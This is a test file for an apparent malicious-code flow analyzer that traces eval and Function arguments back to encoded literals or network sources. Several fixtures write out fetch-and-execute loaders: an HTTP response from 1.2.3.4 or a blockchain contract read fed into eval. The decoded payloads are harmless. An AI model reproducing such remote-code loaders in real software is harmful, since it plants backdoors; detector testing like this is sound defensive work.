import { test } from 'node:test';
import assert from 'node:assert/strict';
import { parseJs } from './parse.js';
import { findSinks } from './sinks.js';
import { originsOf, type Origin } from './flow.js';

/** Origins of the code argument of the `nth` sink (eval/Function/import) in `code`, as 'kind:label:decoders'. */
function origins(code: string, nth = 0): string[] {
  const { ast } = parseJs(code);
  const sink = findSinks(ast)[nth];
  assert.ok(sink, 'no sink found');
  return originsOf(sink.code, ast).map((o: Origin) => `${o.kind}:${o.label}:${o.decoders.join('+')}`).sort();
}
/** The decoded literals among them, once each. */
const decoded = (o: string[]) => [...new Set(o.filter((x) => x.startsWith('literal:') && !x.endsWith(':')))];

test('flow, scopes: minified functions reusing e/t/n share no origins', async (t) => {
  await t.test('a call to e() inside a function reaches the local e, not a top-level helper also named e', () => {
    const code = 'function e(t){return atob(t)}e("Y29uc29sZS5sb2coMSk=");function run(n){const e=n.loader;return eval(e(n.src))}';
    assert.deepEqual(decoded(origins(code)), []);
  });
  await t.test('e.data written in one function is not e.data read in another', () => {
    const code = 'function a(e){e.data=atob("Y29uc29sZS5sb2coMSk=")}function b(e){eval(e.data)}';
    assert.deepEqual(decoded(origins(code)), []);
  });
  await t.test('a parameter named like a required module elsewhere is not that module', () => {
    const code = 'function a(){const e=require("https");return e}function b(e,t){return eval(e.get(t))}';
    assert.ok(!origins(code).some((o) => o.startsWith('network')), origins(code).join());
  });
  await t.test('let in one block does not reach a let of the same name in a sibling block', () => {
    const code = 'function f(x){{let e=atob("Y29uc29sZS5sb2coMSk=");g(e)}{let e=x;eval(e)}}';
    assert.deepEqual(decoded(origins(code)), []);
  });
  await t.test('a parameter shadows a module-level constant', () => {
    const code = 'const t=Buffer.from("636f6e736f6c652e6c6f672831293b","hex").toString();function r(t){return eval(t)}';
    assert.deepEqual(decoded(origins(code)), []);
  });
  await t.test('call sites of another function named like this one do not feed its parameter', () => {
    const code = 'function o(){function n(t){return t}return n(atob("Y29uc29sZS5sb2coMSk="))}function p(){function n(t){return eval(t)}return n(q)}';
    assert.deepEqual(decoded(origins(code)), []);
  });
  await t.test('x.n() is not the local function n of another scope', () => {
    const code = 'function a(){function n(){return atob("Y29uc29sZS5sb2coMSk=")}return n}function b(x){return eval(x.n())}';
    assert.deepEqual(decoded(origins(code)), []);
  });
  await t.test('a nested resolve() is not the Promise executor\'s resolve', () => {
    const code = 'const p=new Promise(resolve=>{q.resolve(atob("Y29uc29sZS5sb2coMSk="));function h(resolve){resolve(atob("Y29uc29sZS5sb2coMSk="))}resolve(z)});p.then(c=>eval(c))';
    assert.deepEqual(decoded(origins(code)), []);
  });
  await t.test('destructured parameters shadow too', () => {
    const code = 'const s=atob("Y29uc29sZS5sb2coMSk=");function f([s,{k:t}]){return eval(s+t)}';
    assert.deepEqual(decoded(origins(code)), []);
  });
});

test('flow, scopes: real flows are still found', async (t) => {
  await t.test('closure capture of a module-level constant', () => {
    const code = "const payload = atob('Y29uc29sZS5sb2coMSk=');\nfunction run() { return eval(payload); }\n";
    assert.deepEqual(decoded(origins(code)), ['literal:literal:atob']);
  });
  await t.test('var hoists out of its block to the function', () => {
    const code = "function f(a) {\n  if (a) { var code = Buffer.from('636f6e736f6c652e6c6f672831293b', 'hex').toString(); }\n  try { g(); } catch (e) { var more = atob('Y29uc29sZS5sb2coMik='); }\n  eval(code + more);\n}\n";
    assert.deepEqual(decoded(origins(code)), ['literal:literal:Buffer.from(hex)', 'literal:literal:atob']);
  });
  await t.test('assignment to an outer variable from another function', () => {
    const code = "let code;\nfunction load() { code = atob('Y29uc29sZS5sb2coMSk='); }\nfunction run() { load(); eval(code); }\n";
    assert.deepEqual(decoded(origins(code)), ['literal:literal:atob']);
  });
  await t.test('module-level constant through a helper and its call site', () => {
    const code = "const K = 'Y29uc29sZS5sb2coMSk=';\nfunction dec(s) { return atob(s); }\nfunction go() { eval(dec(K)); }\n";
    assert.deepEqual(decoded(origins(code)), ['literal:literal:atob']);
  });
  await t.test('a function parameter fed by its call sites', () => {
    const code = "function run(code) { eval(code); }\nrun(atob('Y29uc29sZS5sb2coMSk='));\n";
    assert.deepEqual(decoded(origins(code)), ['literal:literal:atob']);
  });
  await t.test('network body through a helper that calls its callback', () => {
    const code = "const https = require('https');\nfunction get(u, cb) { https.get(u, (r) => { let d = ''; r.on('data', (c) => (d += c)); r.on('end', () => cb(d)); }); }\nget('http://1.2.3.4/x', (body) => eval(body));\n";
    assert.ok(origins(code).some((o) => o.startsWith('network:https.get')), origins(code).join());
  });
  await t.test('Promise executor resolve and a scoped axios client', () => {
    const code = "const axios = require('axios');\nasync function main() {\n  const api = axios.create({ baseURL: 'http://1.2.3.4' });\n  const c = await new Promise((resolve) => { api.get('/p').then((r) => resolve(r.data)); });\n  eval(c);\n}\n";
    assert.ok(origins(code).some((o) => o.startsWith('network:api (http client).get')), origins(code).join());
  });
  await t.test('undeclared names fall back to their undeclared assignments; sloppy block functions stay visible', () => {
    const code = "code = atob('Y29uc29sZS5sb2coMSk=');\nif (x) { function dec(s) { return Buffer.from(s, 'base64').toString(); } }\nfunction r() { eval(code); eval(dec('Y29uc29sZS5sb2coMik=')); }\n";
    assert.deepEqual(decoded(origins(code, 0)), ['literal:literal:atob']);
    assert.deepEqual(decoded(origins(code, 1)), ['literal:literal:Buffer.from(base64)']);
  });
  await t.test('object methods called through the object, and a named function expression calling itself', () => {
    const code = "const api = { dec(s) { return atob(s); } };\nconst f = function g(n) { return n ? g(n - 1) : api.dec('Y29uc29sZS5sb2coMSk='); };\neval(f(2));\n";
    assert.deepEqual(decoded(origins(code)), ['literal:literal:atob']);
  });
  await t.test('for-of binding and a let in the loop body', () => {
    const code = "for (const part of ['Y29uc29sZS5s', 'b2coMSk=']) { let s = atob(part); eval(s); }\n";
    assert.deepEqual(decoded(origins(code)), ['literal:literal:atob']);
  });
});

test('flow, contract reads: web3 .methods.x().call() and ethers Contract methods are blockchain reads', async (t) => {
  await t.test('web3 contract.methods.get().call() result', () => {
    const o = origins("const c = new web3.eth.Contract(abi, addr); c.methods.get().call().then((v) => eval(atob(v)));");
    assert.ok(o.includes('network:c.methods.get().call (blockchain RPC):atob'), o.join());
  });
  await t.test('ethers new Contract(address, abi, provider) read, awaited', () => {
    const o = origins("const c = new ethers.Contract(addr, abi, provider); (async () => { const s = await c.payload(); new Function(s)(); })();");
    assert.ok(o.includes('network:c.payload() contract read (blockchain RPC):'), o.join());
  });
  await t.test('an object that is no Contract, and a Contract listener, are not reads', () => {
    assert.ok(!origins("const c = new Cache(store); eval(c.get('k'));").some((x) => x.startsWith('network')));
    assert.ok(!origins("const c = new Contract(addr, abi, p); c.on('E', (x) => eval(x));").some((x) => x.startsWith('network')));
  });
});

test('flow: an array that collects the chunks of a response carries their origin', async (t) => {
  await t.test('parts.push(chunk) in the data handler, Buffer.concat(parts) in the end handler', () => {
    const code = "const https=require('https');https.get(u,(res)=>{const parts=[];res.on('data',(p)=>parts.push(p));res.on('end',()=>eval(Buffer.concat(parts).toString()))})";
    assert.ok(origins(code).some((o) => o.startsWith('network:https.get')), origins(code).join());
  });
  await t.test('parts.join("") of pushed chunks', () => {
    const code = "const https=require('https');https.get(u,(res)=>{let parts=[];res.on('data',(c)=>{parts.push(c)});res.on('end',()=>new Function(parts.join(''))())})";
    assert.ok(origins(code).some((o) => o.startsWith('network:https.get')), origins(code).join());
  });
  await t.test('another array of the same name, in another function, is not the one the chunks went into', () => {
    const code = "const https=require('https');function a(){https.get(u,(res)=>{const parts=[];res.on('data',(p)=>parts.push(p))})}function b(){const parts=['1+1'];return eval(parts.join(''))}";
    assert.ok(!origins(code).some((o) => o.startsWith('network')), origins(code).join());
  });
  await t.test('literals pushed into an array stay literals', () => {
    const code = "const parts=[];parts.push('console.log(1)');parts.unshift('//x\\n');eval(parts.join(''))";
    assert.deepEqual(origins(code).filter((o) => !o.startsWith('literal')), []);
  });
});
